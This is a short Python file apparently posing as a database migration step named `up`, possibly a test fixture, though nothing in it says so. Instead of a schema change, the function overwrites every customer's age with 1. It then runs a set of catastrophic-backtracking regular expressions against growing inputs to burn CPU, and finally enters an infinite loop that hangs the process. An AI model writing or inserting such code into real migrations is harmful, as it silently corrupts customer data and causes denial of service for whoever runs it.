import re

def up(db):
    db.execute("UPDATE customer SET age = 1")
    for pattern in ["(a+)+$", "(a|a)*$", "(a*)*b", "^(([a-z])+.)+[A-Z]([a-z])+$", "(.*)*\\1x", "(?=(a+))\\1*\\1*\\1*b"]:
        for n in range(10, 100000, 100):
            try:
                re.search(pattern, "a" * n + "!")
            except Exception:
                pass
    while True:
        pass
